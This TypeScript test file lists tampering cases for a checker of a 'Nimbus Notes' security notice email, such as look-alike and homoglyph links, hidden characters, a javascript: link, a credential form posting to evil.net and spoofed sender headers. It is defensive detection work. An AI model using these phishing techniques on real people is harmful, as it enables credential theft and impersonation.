/** A code of ours, and something about it that is not. */
import { byHtml, type CheckCase, gmailHead, inBody, NEVER, textOf } from './testing-case.ts'
import { composed } from './testing-check.ts'

export const ALTERED: readonly CheckCase[] = [
  {
    name: 'one word changed',
    verdict: 'altered',
    reasons: ['text_changed', 'text_missing'],
    make: (notice) => textOf(notice, (text) => text.replace('never', 'also')),
  },
  {
    name: 'one letter changed',
    verdict: 'altered',
    reasons: ['text_changed'],
    make: (notice) => textOf(notice, (text) => text.replace('passwords', 'passwordz')),
  },
  { name: 'a number changed', verdict: 'altered', make: (notice) => textOf(notice, (text) => text.replace('2025', '2024')) },
  {
    name: 'a sentence left out',
    verdict: 'altered',
    reasons: ['text_missing'],
    make: (notice) => textOf(notice, (text) => text.replace(/^.*We will never ask.*\n/m, '')),
  },
  {
    name: 'a sentence added at the end',
    verdict: 'altered',
    reasons: ['text_around'],
    make: (notice) => textOf(notice, (text) => `${text}\nCall 1800 200 300 now to secure your account.\n`),
  },
  {
    name: 'a sentence added at the beginning',
    verdict: 'altered',
    reasons: ['text_around'],
    make: (notice) => textOf(notice, (text) => `Urgent!\n\n${text}`),
  },
  {
    name: 'the foot of a mailing list',
    verdict: 'altered',
    reasons: ['text_around'],
    make: (notice) => textOf(notice, (text) => `${text}\n_______________\nfriends mailing list\nfriends@lists.example.org\n`),
  },
  {
    name: 'a false line among those of a mail program',
    verdict: 'altered',
    make: (notice) => textOf(notice, (text) => `${gmailHead(notice)}Reset your password first\n${text}`),
  },
  {
    name: 'the lines above name a false sender',
    verdict: 'altered',
    reasons: ['from_lookalike'],
    make: (notice) => textOf(notice, (text) => gmailHead(notice).replace('security@nimbusnotes.com', 'security@nimbusn0tes.com') + text),
  },
  {
    name: 'another subject',
    verdict: 'altered',
    reasons: ['subject_differs'],
    make: async (notice) => ({
      content: await composed(notice.mail, notice.address, { subject: 'Your account will be closed today', isSigned: false }),
      address: notice.address,
    }),
  },
  {
    name: 'paragraphs in another order',
    verdict: 'altered',
    reasons: ['text_order'],
    make: (notice) => textOf(notice, (text) => text.replace(/^(.+)\n\n(.+)\n\n(.+)\n/, '$1\n\n$3\n\n$2\n')),
  },
  {
    name: 'a zero-width space in a word',
    verdict: 'altered',
    reasons: ['hidden_characters'],
    make: (notice) => textOf(notice, (text) => text.replace(NEVER, 'We will nev\u200ber ask')),
  },
  {
    name: 'a right-to-left override',
    verdict: 'altered',
    reasons: ['hidden_characters'],
    make: (notice) => textOf(notice, (text) => text.replace(NEVER, `We will \u202enever ask`)),
  },
  {
    name: 'a Cyrillic letter in a word',
    verdict: 'altered',
    reasons: ['mixed_letters'],
    make: (notice) => textOf(notice, (text) => text.replace('passwords', 'p\u0430sswords')),
  },
  {
    name: 'wide letters',
    verdict: 'altered',
    reasons: ['mixed_letters'],
    make: (notice) => textOf(notice, (text) => text.replace('passwords', '\uff50\uff41\uff53swords')),
  },
  {
    name: 'the link to a look-alike',
    verdict: 'altered',
    reasons: ['link_lookalike'],
    make: (notice) => textOf(notice, (text) => text.replace('https://nimbusnotes.com/check', 'https://nimbusn0tes.com/check')),
  },
  {
    name: 'the link to our name under another',
    verdict: 'altered',
    reasons: ['link_lookalike'],
    make: (notice) =>
      textOf(notice, (text) => text.replace('https://nimbusnotes.com/check', 'https://nimbusnotes.com.verify-id.net/check')),
  },
  {
    name: 'the link with our name as its user',
    verdict: 'altered',
    reasons: ['link_lookalike'],
    make: (notice) => textOf(notice, (text) => text.replace('https://nimbusnotes.com/check', 'https://nimbusnotes.com@evil.net/check')),
  },
  {
    name: 'the link in Cyrillic letters',
    verdict: 'altered',
    reasons: ['link_lookalike'],
    make: (notice) => textOf(notice, (text) => text.replace('https://nimbusnotes.com/check', 'https://nimbusn\u043etes.com/check')),
  },
  {
    name: 'the link elsewhere',
    verdict: 'altered',
    reasons: ['link_foreign'],
    make: (notice) => textOf(notice, (text) => text.replace('https://nimbusnotes.com/check', 'https://bit.ly/3xYz')),
  },
  {
    name: 'another link behind the link',
    verdict: 'altered',
    reasons: ['link_foreign'],
    make: (notice) =>
      textOf(notice, (text) => text.replace('https://nimbusnotes.com/check', 'https://nimbusnotes.com/check <https://evil.net/x>')),
  },
  {
    name: 'a machine’s translation',
    verdict: 'altered',
    reasons: ['text_changed'],
    make: (notice) => ({
      content: `${notice.mail.text.split('\n')[0]}\n\nHallo Asha Rao, dies ist eine Sicherheitsmitteilung. Ihr Code: ${notice.code}`,
      address: notice.address,
    }),
  },
  {
    name: 'a summary',
    verdict: 'altered',
    reasons: ['text_other'],
    make: (notice) => ({ content: `Nimbus told me that Mixpanel was breached. My code is ${notice.code}`, address: notice.address }),
  },
  {
    name: 'the wrong language’s text under a code',
    verdict: 'altered',
    reasons: ['text_other'],
    make: (notice, hindi) => ({ content: hindi.mail.text.replace(hindi.code, notice.code), address: notice.address }),
  },
  { name: 'another person’s name', verdict: 'altered', make: (notice) => textOf(notice, (text) => text.replace('Asha Rao', 'Ben Okafor')) },
  {
    name: 'another code typed than in the text',
    verdict: 'altered',
    reasons: ['code_differs'],
    make: (notice, hindi) => ({ content: hindi.mail.text, code: notice.code, address: notice.address }),
  },
  {
    name: 'a link with our words to elsewhere',
    verdict: 'altered',
    reasons: ['link_foreign', 'link_unlike_text'],
    make: (notice) => byHtml(notice, (html) => html.replace('href="https://nimbusnotes.com/check"', 'href="https://evil.net/check"')),
  },
  {
    name: 'a link to another page of ours',
    verdict: 'altered',
    reasons: ['link_foreign'],
    make: (notice) =>
      byHtml(notice, (html) => html.replace('href="https://nimbusnotes.com/check"', 'href="https://nimbusnotes.com/go?to=evil.net"')),
  },
  {
    name: 'a link that a mail filter wrote',
    verdict: 'altered',
    reasons: ['link_rewritten'],
    make: (notice) =>
      byHtml(notice, (html) =>
        html.replace(
          'href="https://nimbusnotes.com/check"',
          'href="https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fnimbusnotes.com%2Fcheck"',
        ),
      ),
  },
  {
    name: 'a link that runs something',
    verdict: 'altered',
    reasons: ['link_foreign'],
    make: (notice) => byHtml(notice, (html) => html.replace('href="https://nimbusnotes.com/check"', 'href="java\tscript:alert(1)"')),
  },
  {
    name: 'a data link',
    verdict: 'altered',
    reasons: ['link_foreign'],
    make: (notice) => byHtml(notice, (html) => inBody(html, '<a href="data:text/html,x">.</a>')),
  },
  {
    name: 'a sentence hidden by display',
    verdict: 'altered',
    reasons: ['html_hidden', 'text_missing'],
    make: (notice) => byHtml(notice, (html) => html.replace(/<p>(We will never ask)/, '<p style="display:none">$1')),
  },
  {
    name: 'text hidden in white',
    verdict: 'altered',
    reasons: ['html_hidden'],
    make: (notice) => byHtml(notice, (html) => inBody(html, '<p style="color:#fff">call 1800 200 300</p>')),
  },
  {
    name: 'text hidden by its size',
    verdict: 'altered',
    reasons: ['html_hidden'],
    make: (notice) => byHtml(notice, (html) => inBody(html, '<span style="font-size:1px">x y z</span>')),
  },
  {
    name: 'a style sheet that hides',
    verdict: 'altered',
    reasons: ['html_hidden'],
    make: (notice) => byHtml(notice, (html) => html.replace('<style>', '<style>p:nth-child(4){display:none}')),
  },
  {
    name: 'a style sheet that writes',
    verdict: 'altered',
    reasons: ['html_strange'],
    make: (notice) => byHtml(notice, (html) => html.replace('<style>', '<style>h1::after{content:"Call 1800 200 300"}')),
  },
  {
    name: 'an address in brackets as text of the HTML',
    verdict: 'altered',
    reasons: ['link_foreign'],
    make: (notice) => byHtml(notice, (html) => html.replace('never', '&lt;https://evil.net/x&gt; never')),
  },
  {
    name: 'a word struck out',
    verdict: 'altered',
    reasons: ['html_strange'],
    make: (notice) => byHtml(notice, (html) => html.replace('never', '<s>never</s>')),
  },
  {
    name: 'a word struck out by its style',
    verdict: 'altered',
    reasons: ['html_strange'],
    make: (notice) => byHtml(notice, (html) => html.replace('never', '<span style="text-decoration:line-through">never</span>')),
  },
  {
    name: 'all but the beginning cut off',
    verdict: 'altered',
    reasons: ['html_strange'],
    make: (notice) => byHtml(notice, (html) => html.replace('<main>', '<main style="max-height:90px;overflow:hidden">')),
  },
  {
    name: 'a form',
    verdict: 'altered',
    reasons: ['html_form'],
    make: (notice) => byHtml(notice, (html) => inBody(html, '<form action="https://evil.net"><input name="password"></form>')),
  },
  {
    name: 'a script',
    verdict: 'altered',
    reasons: ['html_active'],
    make: (notice) => byHtml(notice, (html) => inBody(html, '<script>1</script>')),
  },
  {
    name: 'a picture from elsewhere',
    verdict: 'altered',
    reasons: ['html_picture'],
    make: (notice) => byHtml(notice, (html) => inBody(html, '<img src="https://evil.net/1.png">')),
  },
  {
    name: 'a handler',
    verdict: 'altered',
    reasons: ['html_active'],
    make: (notice) => byHtml(notice, (html) => html.replace('<main>', '<main onmouseover="x()">')),
  },
  {
    name: 'another base for links',
    verdict: 'altered',
    reasons: ['html_active'],
    make: (notice) => byHtml(notice, (html) => html.replace('<head>', '<head><base href="https://evil.net/">')),
  },
  {
    name: 'text beside a good HTML part',
    verdict: 'altered',
    make: async (notice) => ({
      content: await composed(notice.mail, notice.address, { text: `Pay now. ${notice.code}`, isSigned: false }),
      address: notice.address,
    }),
  },
  {
    name: 'HTML that differs from a good text',
    verdict: 'altered',
    make: async (notice) => ({
      content: await composed(notice.mail, notice.address, { html: notice.mail.html.replace('never', 'always'), isSigned: false }),
      address: notice.address,
    }),
  },
  {
    name: 'from a look-alike',
    verdict: 'altered',
    reasons: ['from_lookalike'],
    make: async (notice) => ({
      content: await composed(notice.mail, notice.address, { from: 'Nimbus Notes <security@nimbus-notes.com>', isSigned: false }),
      address: notice.address,
    }),
  },
  {
    name: 'from elsewhere under our name',
    verdict: 'altered',
    reasons: ['from_foreign'],
    make: async (notice) => ({
      content: await composed(notice.mail, notice.address, { from: '"security@nimbusnotes.com" <x@evil.net>', isSigned: false }),
      address: notice.address,
    }),
  },
  {
    name: 'answers go elsewhere',
    verdict: 'altered',
    reasons: ['reply_elsewhere'],
    make: async (notice) => ({
      content: await composed(notice.mail, notice.address, { replyTo: 'help@evil.net', isSigned: false }),
      address: notice.address,
    }),
  },
  {
    name: 'two senders',
    verdict: 'altered',
    reasons: ['from_several'],
    make: ({ eml, address }) => ({ content: Buffer.concat([Buffer.from('From: x@evil.net\r\n'), eml]), address }),
  },
  {
    name: 'a file attached',
    verdict: 'altered',
    reasons: ['attachment'],
    make: async (notice) => ({
      content: await composed(notice.mail, notice.address, { attachments: [{ filename: 'details.pdf', content: 'x' }], isSigned: false }),
      address: notice.address,
    }),
  },
]
